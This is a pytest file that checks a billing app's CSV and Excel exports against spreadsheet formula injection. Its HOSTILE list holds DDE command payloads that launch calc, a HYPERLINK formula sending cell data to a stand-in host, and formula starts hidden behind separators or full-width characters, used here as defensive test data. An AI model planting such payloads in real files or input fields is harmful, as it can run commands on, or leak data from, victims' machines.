"""Issue 15 §5: hostile names in every export open in LibreOffice as text, whichever separator
it is told to use (comma, semicolon, tab, or all of tab, comma, semicolon, space and "|"), and
as text from the Excel workbooks too: 0 formula cells.

The names go where people type them: campaigns, call and candidate ids, trigger sources (call
log), users (who wrote a transaction), billing units (units report) and products (rate card,
transactions). Each export is written by the function the GUI and the CLI call."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from billing_desktop.bootstrap import SqlStore
from billing_desktop.domain import model as m
from billing_desktop.domain.periods import Month
from billing_desktop.exports.csv_export import safe_cell, stream_csv
from billing_desktop.exports.xlsx_export import stream_xlsx
from billing_desktop.reports.rate_card import rate_card_csv
from billing_desktop.services import credits, pricing, units, usage_data, usage_page
from billing_desktop.services.context import resolve_actor
from billing_desktop.services.recording import add_records
from billing_desktop.services.usage_data import CallQuery
from billing_desktop.ui.tabs.usage import write_transactions
from tests.gui.workspace_data import ACCOUNT, PRODUCTS
from tests.integration.spreadsheets import SEPARATORS, convert, formula_cells

TODAY = date(2026, 11, 21)
MONTH = Month(2026, 11)

HOSTILE = [
    # Formula starts at the start of the cell, and DDE payloads.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    # ...after each separator a spreadsheet may be told to use.
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a =1+1",
    "a;+1+1",
    "a|-1+1",
    "a\t@SUM(1)",
    "a;@SUM(1)",
    "a;-1;=2;+3",
    "Sales;=cmd|' /C calc'!A0",
    # ...after leading whitespace (LibreOffice trims it), inside quotes, full width.
    " =1+1",
    "   =1+1",
    "a; =1+1",
    "a,  =1+1",
    "a  =2+2",
    '"=1+1"',
    'a;"=1+1"',
    'a "=1+1"',
    "＝1+1",
    "a;＝1+1",
    "＋1+1",
    # ...after line breaks inside the cell, and tab or CR first.
    "a\r\n=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "\r=1+1",
    "\t=1+1",
    # Signs that are not plain numbers.
    "+x",
    "-x",
    "a;-x",
    "-5 apples",
    # Ordinary names that must come through unchanged.
    "Acme - North",
    "Q1 + Q2",
    "-10.00",
]


@pytest.fixture
def hostile(store: SqlStore) -> SqlStore:
    """A workspace whose users, units, products and calls carry the hostile names."""
    with store() as uow:
        uow.account.save(ACCOUNT)
        products = list(PRODUCTS)
        for n, name in enumerate(HOSTILE):
            products.append(
                m.Product(
                    f"H{n:02}",
                    name,
                    m.Unit.MESSAGE,
                    Decimal("0.0125"),
                    Decimal("0"),
                    False,
                    m.Metering.COUNT,
                    m.Source.SMS,
                    m.CommitAvailability.NOT_AVAILABLE,
                )
            )
        uow.products.add_many(products)
        users = [
            m.User(f"u{n:02}", name, f"u{n}@x.example", m.Role.ADMIN)
            for n, name in enumerate(HOSTILE)
        ]
        uow.users.add_many(users)
        for name in HOSTILE:
            uow.units.add(name)
        start = datetime(2026, 11, 10, 9, tzinfo=UTC)
        calls = [
            m.Call(
                name,
                m.CallType.LIVE,
                m.TriggeredBy.CANDIDATE,
                name,
                name,
                name,
                None,
                None,
                start + timedelta(minutes=n),
                60 + n,
            )
            for n, name in enumerate(HOSTILE)
        ]
        add_records(uow, "calls", calls)
        uow.commit()
    for user in users[:12]:  # transactions written by users with hostile names
        with store() as uow:
            credits.purchase_credits(uow, resolve_actor(uow, user.id), "12", today=TODAY)
            uow.commit()
    return store


def export_everything(store: SqlStore, folder: Path, suffix: str) -> list[Path]:
    """Every table export the product has, with ``suffix`` (".csv" or ".xlsx")."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    with store() as uow:
        actor = resolve_actor(uow, "u00")
        query = CallQuery()
        path = folder / f"call-log{suffix}"
        assert usage_data.export_call_log(uow, actor, query, path) == len(HOSTILE)
        written.append(path)
        # The remote store's export: the same rows paged out of the server, written here.
        lines = usage_data.call_log_page(uow, actor, query, 0, 1000)
        path = folder / f"call-log-remote{suffix}"
        if suffix == ".csv":
            stream_csv(path, usage_data.HEADER, [[usage_data.csv_row(x) for x in lines]])
        else:
            stream_xlsx(path, usage_data.HEADER, [[usage_data.cells_row(x) for x in lines]])
        written.append(path)
        path = folder / f"transactions{suffix}"
        transactions = usage_page.transactions(uow, actor, MONTH)
        assert len(transactions) == 12
        write_transactions(path, transactions, "USD")
        written.append(path)
        path = folder / f"billing-units{suffix}"
        report = units.unit_report(uow, actor, MONTH, today=TODAY)
        assert units.write_report(report, path) == len(HOSTILE) + 2  # Unassigned, Total
        written.append(path)
        path = folder / f"usage-pricing{suffix}"
        card = pricing.rate_card(uow, actor, today=TODAY)
        assert rate_card_csv(card, path) == len(PRODUCTS) + len(HOSTILE)
        written.append(path)
    return written


def all_formulas(workbooks: list[Path]) -> Iterator[str]:
    for workbook in workbooks:
        for cell in formula_cells(workbook):
            yield f"{workbook.name}: {cell}"


def test_csv_exports_open_without_a_formula_whatever_the_separator(
    hostile: SqlStore, tmp_path: Path
) -> None:
    exports = export_everything(hostile, tmp_path / "csv", ".csv")
    text = "".join(path.read_text(encoding="utf-8-sig") for path in exports)
    assert "a;'=1+1" in text and "Acme - North" in text  # neutralised, and left alone
    found = {}
    for separator in SEPARATORS:
        out = tmp_path / separator
        converted = convert(exports, out, separator, tmp_path / "profile" / "lo")
        found[separator] = list(all_formulas(converted))
    assert found == {separator: [] for separator in SEPARATORS}


def test_the_check_finds_formulas_in_a_file_that_is_not_safe(tmp_path: Path) -> None:
    """The check above can fail: a formula at the start of a cell counts with the comma, the
    one after a semicolon inside a cell with the semicolon."""
    raw = tmp_path / "raw.csv"
    raw.write_text("\r\n".join(f"x,{name}" for name in ["=1+1", "a;=2+2"]), encoding="utf-8")
    profile = tmp_path / "profile" / "lo"
    assert len(formula_cells(convert([raw], tmp_path / "comma", "comma", profile)[0])) == 1
    semicolon = formula_cells(convert([raw], tmp_path / "semi", "semicolon", profile)[0])
    assert len(semicolon) == 1 and "2+2" in semicolon[0]


def test_workbooks_hold_the_names_as_text_and_no_formula(hostile: SqlStore, tmp_path: Path) -> None:
    exports = export_everything(hostile, tmp_path / "xlsx", ".xlsx")
    assert list(all_formulas(exports)) == []  # as written
    # XML reads a CR in text as a line feed: the names as a workbook holds them.
    names = [name.replace("\r\n", "\n").replace("\r", "\n") for name in HOSTILE]
    for path in exports:
        book = openpyxl.load_workbook(path, read_only=True)
        # The reader may give a CR back as written, or as XML's line feed (with lxml or not).
        texts = {
            str(cell.value).replace("\r\n", "\n").replace("\r", "\n")
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "s"
        }
        book.close()
        # The exact names, as text, with no ' added (transactions: the 12 users who bought).
        expected = set(names[:12] if path.stem == "transactions" else names)
        assert expected <= texts, (path.name, expected - texts)
    reopened = convert(exports, tmp_path / "reopened", None, tmp_path / "profile" / "lo")
    assert list(all_formulas(reopened)) == []  # as LibreOffice reads them


def test_every_export_neutralises_with_the_one_rule(hostile: SqlStore, tmp_path: Path) -> None:
    """The call log's fast path and csv.writer agree with safe_cell on every hostile name."""
    (path,) = export_everything(hostile, tmp_path / "csv", ".csv")[:1]
    text = path.read_text(encoding="utf-8-sig")
    for name in HOSTILE:
        if "\n" not in name and "\r" not in name and "," not in name and '"' not in name:
            assert f"{safe_cell(name)},live,candidate,{safe_cell(name)}" in text, name
